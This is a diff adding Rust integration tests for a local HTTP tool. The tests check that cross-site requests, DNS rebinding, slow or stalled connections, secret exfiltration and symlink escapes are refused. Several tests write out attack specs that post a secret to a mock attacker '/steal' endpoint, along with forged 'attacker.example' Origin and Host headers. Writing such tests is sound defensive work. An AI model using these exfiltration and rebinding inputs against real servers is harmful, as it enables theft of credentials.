@@ -30,12 +30,18 @@ fn start(extra: &[&str]) -> Server {
 
 /// A server whose `COURIER_ALLOW` is `allow` (unset for `None`).
 fn start_with_allow(extra: &[&str], allow: Option<&str>) -> Server {
+    start_with_env(extra, allow, &[])
+}
+
+/// A server whose `COURIER_ALLOW` is `allow`, with the variables `env` set.
+fn start_with_env(extra: &[&str], allow: Option<&str>, env: &[(&str, &str)]) -> Server {
     let mut command = Command::new(env!("CARGO_BIN_EXE_courier"));
     command.env_remove("COURIER_ALLOW");
     // Tests send to loopback servers, which the destination policy refuses by default.
     if let Some(allow) = allow {
         command.env("COURIER_ALLOW", allow);
     }
+    command.envs(env.iter().copied());
     let mut child = command
         .args(["serve", "--listen", "127.0.0.1:0"])
         .args(extra)
@@ -393,4 +399,302 @@ async fn answers_are_bounded_however_large_the_input() {
     assert_eq!(status, 200);
     let count = answer["diagnostics"].as_array().unwrap().len();
     assert!((1..=1_000).contains(&count), "{count} diagnostics");
+}
+
+/// Sends `body` to `route` with exactly the headers given (reqwest adds none it is given).
+async fn post_raw(server: &Server, route: &str, headers: &[(&str, &str)], body: &str) -> (u16, String) {
+    let mut request = reqwest::Client::new().post(format!("{}{route}", server.base)).body(body.to_owned());
+    for (name, value) in headers {
+        request = request.header(*name, *value);
+    }
+    let response = request.send().await.expect("an answer");
+    (response.status().as_u16(), response.text().await.unwrap())
+}
+
+#[tokio::test]
+async fn a_cross_site_page_cannot_make_the_server_send_or_read_its_answers() {
+    let attacker = MockServer::start().await;
+    Mock::given(method("POST")).respond_with(ResponseTemplate::new(200)).mount(&attacker).await;
+    let server = start_with_env(&["--allow-send"], Some("private"), &[("COURIER_SECRET_K", "s3cr3t-value")]);
+    let port = server.base.rsplit(':').next().unwrap().to_owned();
+    let spec = format!(
+        "method = \"POST\"\nurl = \"{}/steal\"\nbody = \"json\"\npayload = '{{\"k\": ${{secret(\"K\")}}}}'\n",
+        attacker.uri()
+    );
+    let body = json!({ "spec": spec }).to_string();
+    let own_host = format!("127.0.0.1:{port}");
+    let rebound = format!("attacker.example:{port}");
+    // What a browser sends: a "simple" POST from a foreign page (text/plain, no
+    // preflight), a JSON one from a foreign page, and any request of a page whose
+    // name was rebound to 127.0.0.1.
+    let cases: [(&[(&str, &str)], u16); 5] = [
+        (&[("content-type", "text/plain;charset=UTF-8"), ("origin", "http://attacker.example")], 403),
+        (&[("content-type", "application/json"), ("origin", "http://attacker.example")], 403),
+        (&[("content-type", "application/json"), ("origin", "null")], 403),
+        (&[("content-type", "text/plain"), ("host", &rebound), ("origin", "http://attacker.example")], 403),
+        (&[("content-type", "text/plain")], 415),
+    ];
+    for (headers, refused) in cases {
+        for route in ["/v1/send", "/v1/dry-run", "/v1/eval"] {
+            let (status, answer) = post_raw(&server, route, headers, &body).await;
+            assert_eq!(status, refused, "{route} {headers:?}: {answer}");
+            assert!(!answer.contains("s3cr3t"), "{answer}");
+        }
+    }
+    let (status, answer) =
+        post_raw(&server, "/v1/dry-run", &[("host", &rebound), ("content-type", "application/json")], &body).await;
+    assert_eq!(status, 403, "a rebound name reads nothing: {answer}");
+    let page = reqwest::Client::new().get(format!("{}/", server.base)).header("host", &rebound).send().await.unwrap();
+    assert_eq!(page.status().as_u16(), 403);
+    assert!(attacker.received_requests().await.unwrap().is_empty(), "a refused request sent nothing");
+    // The page's own requests and clients without an Origin keep working.
+    let own_origin = format!("http://{own_host}");
+    let json_type = ("content-type", "application/json");
+    let (status, answer) =
+        post_raw(&server, "/v1/eval", &[json_type, ("origin", &own_origin)], r#"{"expression": "1 + 1"}"#).await;
+    assert_eq!((status, answer.as_str()), (200, r#"{"value":2,"text":"2"}"#));
+    let (status, answer) =
+        post_raw(&server, "/v1/eval", &[json_type, ("host", &format!("localhost:{port}"))], r#"{"expression": "1"}"#)
+            .await;
+    assert_eq!(status, 200, "{answer}");
+    let (status, answer) = post_raw(&server, "/v1/send", &[json_type], &body).await;
+    assert_eq!(status, 200, "{answer}");
+    assert_eq!(attacker.received_requests().await.unwrap().len(), 1);
+}
+
+#[tokio::test]
+async fn a_name_given_with_host_is_answered() {
+    let server = start(&["--host", "workbench.internal"]);
+    let port = server.base.rsplit(':').next().unwrap().to_owned();
+    let json_type = ("content-type", "application/json");
+    for host in [format!("workbench.internal:{port}"), "workbench.internal".to_owned()] {
+        let (status, answer) =
+            post_raw(&server, "/v1/eval", &[json_type, ("host", &host)], r#"{"expression": "1"}"#).await;
+        assert_eq!(status, 200, "{host}: {answer}");
+    }
+    let (status, _) = post_raw(
+        &server,
+        "/v1/eval",
+        &[json_type, ("host", &format!("other.internal:{port}"))],
+        r#"{"expression": "1"}"#,
+    )
+    .await;
+    assert_eq!(status, 403);
+}
+
+#[test]
+fn sending_from_a_public_address_needs_public_and_files_must_be_a_folder() {
+    let folder = tempfile::tempdir().unwrap();
+    let file = folder.path().join("file.txt");
+    std::fs::write(&file, "x").unwrap();
+    let missing = folder.path().join("missing");
+    for args in [
+        vec!["--listen", "0.0.0.0:0", "--allow-send"],
+        vec!["--listen", "127.0.0.1:0", "--files", file.to_str().unwrap()],
+        vec!["--listen", "127.0.0.1:0", "--files", missing.to_str().unwrap()],
+    ] {
+        let output = Command::new(env!("CARGO_BIN_EXE_courier")).arg("serve").args(&args).output().unwrap();
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
+        assert!(stderr.contains("--public") || stderr.contains("not an existing folder"), "{args:?}: {stderr}");
+    }
+    // With --public it starts (and says where it listens).
+    let mut child = Command::new(env!("CARGO_BIN_EXE_courier"))
+        .args(["serve", "--listen", "0.0.0.0:0", "--allow-send", "--public"])
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
+    let _ = child.kill();
+    let _ = child.wait();
+    assert!(line.contains("listening on http://0.0.0.0:"), "{line}");
+}
+
+#[tokio::test]
+async fn mappings_of_long_paths_are_cut_by_answer_size() {
+    let server = start(&[]);
+    // 100 levels of 8,000-byte keys over 10,000 leaves: every leaf repeats a path
+    // of 800 KB (twice, as a path and a pointer), which asked for gigabytes.
+    let key = "k".repeat(8_000);
+    let mut response = String::new();
+    for _ in 0..100 {
+        response.push_str(&format!("{{\"{key}\": "));
+    }
+    response.push_str(&format!("[{}]", vec!["0"; 10_000].join(",")));
+    response.push_str(&"}".repeat(100));
+    let started = Instant::now();
+    let (status, answer) = post_json(&server, "/v1/mappings", json!({ "response": response })).await;
+    assert!(started.elapsed() < Duration::from_secs(10), "took {:?}", started.elapsed());
+    assert_eq!(status, 200);
+    assert_eq!(answer["truncated"], json!(true));
+    let size = answer.to_string().len();
+    assert!(size < 2 * courier::serve::MAX_LEAVES_BYTES, "the answer is {size} bytes");
+    assert!(answer["leaves"].as_array().unwrap().len() > 1);
+}
+
+/// The most memory the process `pid` has held (its peak resident set), in bytes.
+fn peak_resident(pid: u32) -> u64 {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("Linux's /proc");
+    let line = status.lines().find(|line| line.starts_with("VmHWM:")).expect("VmHWM");
+    line.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() * 1024
+}
+
+/// One request over a fresh connection, its whole answer read: (status line, time taken).
+fn timed_request(address: &str, request: &str) -> (String, Duration) {
+    use std::io::{Read, Write};
+    let started = Instant::now();
+    let mut stream = std::net::TcpStream::connect(address).unwrap();
+    stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
+    stream.write_all(request.as_bytes()).unwrap();
+    let mut answer = String::new();
+    let _ = stream.read_to_string(&mut answer);
+    (answer.lines().next().unwrap_or_default().to_owned(), started.elapsed())
+}
+
+fn raw_post(address: &str, route: &str, body: &str) -> String {
+    format!(
+        "POST {route} HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\nConnection: close\r\n\
+         Content-Length: {}\r\n\r\n{body}",
+        body.len()
+    )
+}
+
+#[test]
+fn slow_readers_of_large_answers_are_bounded_and_eval_keeps_answering() {
+    use std::io::Write;
+    let server = start(&[]);
+    let address = server.base.trim_start_matches("http://").to_owned();
+    let render = json!({ "template": "${padZeroes(\"1\", 16000000)}", "as": "text" }).to_string();
+    let render = raw_post(&address, "/v1/render", &render);
+    let eval = raw_post(&address, "/v1/eval", &json!({ "expression": "1 + 1" }).to_string());
+    // 50 connections ask for a 16 MB answer each and never read it (2.44 GB before).
+    let mut held = Vec::new();
+    for _ in 0..50 {
+        let mut stream = std::net::TcpStream::connect(&address).unwrap();
+        stream.write_all(render.as_bytes()).unwrap();
+        held.push(stream);
+    }
+    // Once each has its answer's first line (200, or 503 when the answers being
+    // written already hold their budget), they stop reading.
+    let mut statuses = std::collections::BTreeMap::new();
+    for stream in &held {
+        stream.set_read_timeout(Some(Duration::from_secs(120))).unwrap();
+        let mut line = String::new();
+        BufReader::new(stream).read_line(&mut line).unwrap();
+        *statuses.entry(line.trim().to_owned()).or_insert(0) += 1;
+    }
+    let mut slowest = Duration::ZERO;
+    for _ in 0..10 {
+        let (status, took) = timed_request(&address, &eval);
+        assert!(status.contains("200"), "{status}");
+        slowest = slowest.max(took);
+        std::thread::sleep(Duration::from_millis(500));
+    }
+    let peak = peak_resident(server.child.id());
+    let _ = std::io::Write::write_all(
+        &mut std::io::stderr(),
+        format!(
+            "slow readers: {statuses:?}; eval answered within {slowest:?}, the server's peak was {} MiB\n",
+            peak >> 20
+        )
+        .as_bytes(),
+    );
+    assert!(slowest < Duration::from_secs(2), "eval took {slowest:?}");
+    assert!(peak < 1 << 30, "the server held {} MiB", peak >> 20);
+    drop(held);
+}
+
+#[test]
+fn connections_that_never_finish_their_headers_are_closed() {
+    use std::io::Write;
+    // A server with 256 descriptors, and 300 connections that send half a request.
+    let mut child = Command::new("sh")
+        .args(["-c", &format!("ulimit -n 256 && exec {} serve --listen 127.0.0.1:0", env!("CARGO_BIN_EXE_courier"))])
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
+    let server = Server { child, base: line.trim().rsplit(' ').next().unwrap().trim_end_matches('/').to_owned() };
+    let address = server.base.trim_start_matches("http://").to_owned();
+    let mut partial = Vec::new();
+    for _ in 0..300 {
+        let mut stream = std::net::TcpStream::connect(&address).unwrap();
+        stream.write_all(format!("POST /v1/eval HTTP/1.1\r\nHost: {address}\r\n").as_bytes()).unwrap();
+        partial.push(stream);
+    }
+    // Each has the header-read timeout from when it was accepted: the last are
+    // accepted when the first are closed, and then the server answers again.
+    let eval = raw_post(&address, "/v1/eval", &json!({ "expression": "1 + 1" }).to_string());
+    let (status, took) = timed_request(&address, &eval);
+    assert!(status.contains("200"), "{status:?} after {took:?}");
+    assert!(took < 2 * courier::serve::HEADER_READ_TIMEOUT + Duration::from_secs(5), "{took:?}");
+    drop(partial);
+}
+
+#[tokio::test]
+async fn a_bound_secret_transformed_in_a_spec_sent_to_the_server_is_refused() {
+    let attacker = MockServer::start().await;
+    Mock::given(method("POST")).respond_with(ResponseTemplate::new(200)).mount(&attacker).await;
+    let env = [("COURIER_SECRET_K", "s3cr3t-value"), ("COURIER_SECRET_K_HOSTS", "api.example.org")];
+    let server = start_with_env(&["--allow-send"], Some("private"), &env);
+    let spec = format!(
+        "method = \"POST\"\nurl = \"{}/steal\"\nbody = \"json\"\npayload = '{{\"k\": ${{stringToUpperCase(secret(\"K\"))}}}}'\n",
+        attacker.uri()
+    );
+    let (status, outcome) = post_json(&server, "/v1/send", json!({ "spec": spec })).await;
+    assert_eq!(status, 200, "{outcome}");
+    let error = outcome["error"].as_str().unwrap_or_default();
+    assert!(error.contains("the secret K to 127.0.0.1: it is bound to api.example.org"), "{outcome}");
+    assert!(attacker.received_requests().await.unwrap().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn mapping_large_answers_does_not_stall_other_requests() {
+    let body = format!(r#"{{"pad": "{}", "a": 1}}"#, "x".repeat(10_000_000));
+    let shop = MockServer::start().await;
+    Mock::given(method("GET"))
+        .respond_with(ResponseTemplate::new(200).set_body_raw(body, "application/json"))
+        .mount(&shop)
+        .await;
+    let server = start(&["--allow-send"]);
+    let mut spec = format!("url = \"{}/x\"\ntimeout = \"6s\"\n", shop.uri());
+    for number in 0..5_000 {
+        spec.push_str(&format!("[[mappings]]\nsource = \"a\"\ntarget = \"t{number}\"\n"));
+    }
+    let sends: Vec<_> = (0..2)
+        .map(|_| {
+            let request = reqwest::Client::new()
+                .post(format!("{}/v1/send", server.base))
+                .header("content-type", "application/json")
+                .body(json!({ "spec": spec }).to_string());
+            tokio::spawn(async move { request.send().await.unwrap().status().as_u16() })
+        })
+        .collect();
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+    let started = Instant::now();
+    let (status, answer) = post_json(&server, "/v1/eval", json!({ "expression": "1 + 1" })).await;
+    let took = started.elapsed();
+    assert_eq!((status, answer["text"].clone()), (200, json!("2")));
+    assert!(took < Duration::from_secs(2), "eval waited {took:?} behind two sends' mappings");
+    for send in sends {
+        assert_eq!(send.await.unwrap(), 200);
+    }
+}
+
+#[tokio::test]
+async fn a_payload_file_linked_out_of_the_files_folder_is_refused_unread() {
+    let outside = tempfile::tempdir().unwrap();
+    std::fs::write(outside.path().join("private.json"), "top-secret-token {").unwrap();
+    let folder = tempfile::tempdir().unwrap();
+    std::os::unix::fs::symlink(outside.path().join("private.json"), folder.path().join("payload.json")).unwrap();
+    let server = start(&["--files", folder.path().to_str().unwrap()]);
+    let spec = "method = \"POST\"\nurl = \"https://x.org\"\nbody = \"json\"\npayload_file = \"payload.json\"\n";
+    for route in ["/v1/dry-run", "/v1/check"] {
+        let (status, answer) = post_json(&server, route, json!({ "spec": spec })).await;
+        assert!(status == 422 || status == 200, "{route}: {status} {answer}");
+        let text = answer.to_string();
+        assert!(text.contains("a link leads out") && !text.contains("top-secret"), "{route}: {text}");
+    }
 }
